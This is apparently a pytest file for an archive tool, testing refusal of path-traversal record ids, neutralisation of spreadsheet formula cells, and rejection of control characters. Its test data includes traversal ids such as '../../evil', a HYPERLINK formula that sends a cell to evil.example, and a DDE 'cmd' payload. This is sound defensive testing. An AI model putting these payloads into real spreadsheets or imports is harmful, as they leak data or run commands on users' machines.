"""Issue 20, findings 1, 6 and 7: hostile spreadsheets and record files.

An import never writes outside documents/; control characters never reach a page; cells that a
spreadsheet would run as formulas are published as text; long transcriptions import.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from archivegen.build.pipeline import build_archive
from archivegen.problems import BuildFailed
from conftest import make_archive, record_text, run_cli


def _csv(path: Path, rows: list[list[str]]) -> Path:
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


def _tree(root: Path) -> set[str]:
    return {p.relative_to(root).as_posix() for p in root.rglob("*")}


@pytest.mark.parametrize("bad_id", ["../../evil", "../x", "sub/x", "/tmp/faults-abs", ".hidden", "a\\..\\b"])
def test_issue20_import_refuses_ids_that_leave_documents(tmp_path: Path, bad_id: str):
    root = make_archive(tmp_path / "archive", {})
    before = _tree(tmp_path)
    sheet = _csv(tmp_path / "rows.csv", [["id", "title", "date"], [bad_id, "Evil", "1956-11-01"]])
    before.add("rows.csv")
    proc = run_cli("import", str(sheet), "--root", str(root))
    assert proc.returncode == 1, proc.stdout
    assert f'rows.csv:2: error: id: "{bad_id}" is not a valid record id' in proc.stderr
    assert "nothing written" in proc.stderr
    assert _tree(tmp_path) == before
    assert not Path("/tmp/faults-abs.md").exists()


def test_issue20_write_rows_refuses_a_path_outside_documents(tmp_path: Path):
    from archivegen.commands.importer import Row, write_rows

    root = make_archive(tmp_path / "archive", {})
    with pytest.raises(ValueError):
        write_rows(root, [Row(2, "x", "documents/ok.md", "---\n"), Row(3, "e", "documents/../evil.md", "---\n")])
    assert not (root / "evil.md").exists() and not (root / "documents" / "ok.md").exists()


def test_issue20_import_takes_a_transcription_over_the_csv_field_limit(tmp_path: Path):
    root = make_archive(tmp_path / "archive", {})
    body = ("A long transcription line. " * 40 + "\n\n") * 200  # ~220 KB, over csv's 128 KB default
    sheet = _csv(tmp_path / "rows.csv", [["title", "date", "body"], ["Long", "1956-11-01", body]])
    proc = run_cli("import", str(sheet), "--root", str(root))
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr
    written = (root / "documents" / "long.md").read_text(encoding="utf-8")
    assert body.strip() in written


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)"]


def test_issue20_export_publishes_formula_cells_as_text(tmp_path: Path):
    records = {f"r{i}.md": record_text(title=f"Title {i}", summary=f"'{value}'" if "'" not in value else f'"{value}"',
                                       people=f'["{value.replace(chr(34), "")}"]')
               for i, value in enumerate(FORMULAS)}
    root = make_archive(tmp_path / "archive", records)
    build_archive(root, index=False)
    rows = list(csv.DictReader(io.StringIO((root / "site" / "data" / "records.csv").read_text(encoding="utf-8"))))
    cells = [cell for row in rows for cell in row.values() if cell]
    assert len(rows) == len(FORMULAS)
    # OWASP: no cell may begin with a character that starts a formula.
    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"]
    summaries = sorted(row["summary"] for row in rows)
    assert summaries == sorted("'" + value for value in FORMULAS)


def test_issue20_exported_formula_cells_import_as_they_were(tmp_path: Path):
    root = make_archive(tmp_path / "archive", {})
    sheet = _csv(tmp_path / "rows.csv", [["title", "date", "summary"],
                                         ["'=1+2 is a sum", "1956-11-01", "'-dash start"],
                                         ["@mention", "1956-11-02", "plain"]])
    proc = run_cli("import", str(sheet), "--root", str(root))
    assert proc.returncode == 0, proc.stderr
    files = {p.name: p.read_text(encoding="utf-8") for p in (root / "documents").glob("*.md")}
    texts = "".join(files.values())
    assert "title: =1+2 is a sum" in texts or "title: '=1+2 is a sum'" in texts
    assert "-dash start" in texts and "'-dash start" not in texts
    assert 'rows.csv:3: warning: title: "@mention" starts with "@"' in proc.stderr


CONTROLS = ["\x00", "\x01", "\x0c", "\x1b", "\x7f", "\x85"]


@pytest.mark.parametrize("char", CONTROLS, ids=[f"U+{ord(c):04X}" for c in CONTROLS])
def test_issue20_control_characters_in_fields_are_errors(tmp_path: Path, char: str):
    escaped = char.encode("unicode_escape").decode()
    if escaped == char:
        escaped = f"\\x{ord(char):02x}"
    text = ("---\n"
            f'title: "Bad{escaped} title"\n'
            "date: 1956-11-01\n"
            f'people: ["Nagy,{escaped} Imre"]\n'
            "---\nBody.\n")
    root = make_archive(tmp_path / "archive", {"bad.md": text, "good.md": record_text()})
    proc = run_cli("build", "--root", str(root), "--no-index")
    assert proc.returncode == 1
    assert f"documents/bad.md:2: error: title: contains the control character U+{ord(char):04X}" in proc.stderr
    assert f"documents/bad.md:4: error: people: item 1 contains the control character U+{ord(char):04X}" in proc.stderr
    assert not (root / "site").exists()


def test_issue20_control_characters_in_a_transcription_name_their_line(tmp_path: Path):
    root = make_archive(tmp_path / "archive", {"bad.md": record_text(body="Line one.\n\nA \x01 here.")})
    with pytest.raises(BuildFailed) as failed:
        build_archive(root, index=False)
    assert [p.format() for p in failed.value.problems] == [
        "documents/bad.md:7: error: body: contains the control character U+0001 at character 3; "
        "remove it (often left by a copy from a PDF or a word processor)"]


def test_issue20_control_characters_from_a_spreadsheet_are_refused(tmp_path: Path):
    root = make_archive(tmp_path / "archive", {})
    sheet = _csv(tmp_path / "rows.csv", [["title", "date"], ["Bell\x07 title", "1956-11-01"]])
    proc = run_cli("import", str(sheet), "--root", str(root))
    assert proc.returncode == 1
    assert "rows.csv:2: error: title: contains the control character U+0007" in proc.stderr
    assert not list((root / "documents").glob("*.md"))
